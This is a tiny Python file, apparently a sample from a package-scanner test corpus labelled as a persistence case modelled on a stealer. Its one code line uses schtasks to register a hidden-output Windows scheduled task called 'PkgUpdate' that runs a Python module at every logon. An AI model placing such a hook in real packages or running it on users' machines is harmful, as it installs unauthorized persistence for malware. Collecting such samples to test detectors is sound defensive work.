# pkgguard corpus 083 (persistence), modelled on [stealer-profile]; inert, never run.
import subprocess
import sys

subprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "PkgUpdate", "/tr", sys.executable + " -m pkg.agent", "/f"], capture_output=True)
